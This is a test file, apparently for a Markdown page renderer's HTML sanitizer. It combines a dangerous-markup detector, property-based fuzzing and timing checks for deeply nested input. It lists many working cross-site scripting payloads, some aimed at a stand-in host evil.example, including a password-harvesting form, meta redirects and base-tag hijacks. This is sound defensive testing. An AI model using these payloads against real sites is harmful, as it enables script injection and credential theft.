import * as fc from 'fast-check';
import { renderPage } from './render-page';

const links = { link: (href: string) => href, image: (src: string) => src };
const html = (source: string) => renderPage(source, links).html;

/** What no page may contain, read by the parser of a browser. */
function dangersIn(markup: string): string[] {
  const dangers: string[] = [];
  const tags =
    /<\s*(script|iframe|style|object|embed|form|link|meta|base|svg|math|textarea|select|button|video|audio|template|frame)\b/gi;
  dangers.push(...(markup.match(tags) ?? []));
  for (const [tag] of markup.matchAll(/<[a-z][^<>]*>/gi)) {
    // Quoted values may hold anything; what is left are the names of attributes.
    const names = tag.replace(/"[^"]*"/g, '""');
    if (
      /\s(?:on\w+|srcdoc|formaction|xlink:href|action|style(?!="text-align))\s*=/i.test(
        names,
      )
    ) {
      dangers.push(tag);
    }
    const urls = tag.matchAll(/\s(?:href|src)="([^"]*)"/gi);
    for (const [, url] of urls) {
      if (
        /^[^a-z]*(?:javascript|vbscript|data(?!:image\/)|file|blob)\s*:/i.test(
          url,
        )
      ) {
        dangers.push(tag);
      }
    }
  }
  return dangers;
}

describe('a hostile page', () => {
  it.each([
    '<script>alert(1)</script>',
    '<ScRiPt src=//evil.example></sCrIpT>',
    '<img src=x onerror=alert(1)>',
    '<a href="javascript:alert(1)">a</a>',
    '<a href=" java\nscript:alert(1)">a</a>',
    '[a](javascript:alert(1))',
    '[a](JaVaScRiPt&#58;alert(1))',
    '[a](data:text/html;base64,PHNjcmlwdD4=)',
    '![a](javascript:alert(1))',
    '<img src="data:text/html,<script>alert(1)</script>">',
    '<iframe src="https://evil.example"></iframe>',
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<math><mi xlink:href="data:x,<script>"></math>',
    '<style>body{background:url(https://evil.example)}</style>',
    '<link rel="stylesheet" href="main.deadbeef.min.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example">',
    '<form action="https://evil.example"><input name="password" type="password"><button>Go</button></form>',
    '<details open ontoggle=alert(1)>',
    '<p style="position:fixed;inset:0;background:url(x)">a</p>',
    '<div><div onclick="alert(1)">a</div>',
    '!!! note "<img src=x onerror=alert(1)>"\n    a',
    '=== "<script>alert(1)</script>"\n    a',
    '```mermaid\n</pre><script>alert(1)</script>\n```',
    '```"><script>alert(1)</script>\na\n```',
    '```yaml title="<script>alert(1)</script>"\na\n```',
    '# <img src=x onerror=alert(1)>',
    'text {: onclick="alert(1)" }',
    '[a](https://example.org){: onmouseover=alert(1) }',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<!--><img src=x onerror=alert(1)>-->',
    '<a href="https://example.org" target="_blank" onfocus=alert(1) autofocus>a</a>',
  ])('does no harm: %s', source => {
    expect(dangersIn(html(source))).toEqual([]);
  });

  it('cannot pass for a part of the reader', () => {
    const found = html(
      '<div class="md-overlay wide" id="__drawer">a</div><label for="x" class="md-nav__link">b</label>',
    );
    expect(found).toContain('<div class="wide">a</div>');
    expect(found).not.toContain('md-');
    expect(found).not.toContain('__drawer');
  });

  it('asks for nothing: of form fields only marks and tabs stay', () => {
    expect(
      html('<input type="text" name="a"><input type="checkbox" disabled>'),
    ).toBe('<p><input type="checkbox" disabled /></p>\n');
  });

  it('gets no hold on the window that opened another', () => {
    expect(
      html('<a href="https://example.org" target="_blank">a</a>'),
    ).toContain('rel="noopener noreferrer"');
  });

  const pieces = fc.constantFrom(
    ...[
      '<script>',
      '</script>',
      '<img src=x ',
      'onerror=alert(1)',
      '>',
      '"',
      "'",
    ],
    ...[
      '!!! note',
      '??? tip "',
      '=== "',
      '\n    ',
      '\n\n',
      '```',
      '```mermaid\n',
    ],
    ...[
      '[a](',
      'java',
      'script:',
      ')',
      '{: ',
      '}',
      '<a href=',
      '- [x] ',
      '| a | b |\n|--|--|\n',
    ],
    ...[
      '---\n',
      '# ',
      '[^1]',
      '[^1]: ',
      '<svg/onload=',
      '&#x6A;',
      '<!--',
      '-->',
      '> ',
      '\t',
      '\u0000',
    ],
  );
  const pages = fc
    .array(fc.oneof(pieces, fc.string({ maxLength: 12 })), { maxLength: 40 })
    .map(parts => parts.join(''));

  it('never breaks the build, and is always made safe', () => {
    fc.assert(
      fc.property(pages, source => {
        expect(dangersIn(html(source))).toEqual([]);
      }),
      { numRuns: 1000 },
    );
  });

  it.each([
    ['quotes', '> '.repeat(2000)],
    ['lists', '- '.repeat(2000)],
    ['brackets', '['.repeat(5000)],
    ['stars', '*a **a '.repeat(2000)],
    ['elements', '<div>'.repeat(3000)],
    [
      'admonitions',
      Array.from(
        { length: 200 },
        (_, depth) => `${'    '.repeat(depth)}!!! note`,
      ).join('\n'),
    ],
    ['front matter', '---\n'.repeat(5000)],
  ])('takes no time to speak of: deep %s', (_, source) => {
    const start = Date.now();
    html(source);
    expect(Date.now() - start).toBeLessThan(5_000);
  });
});
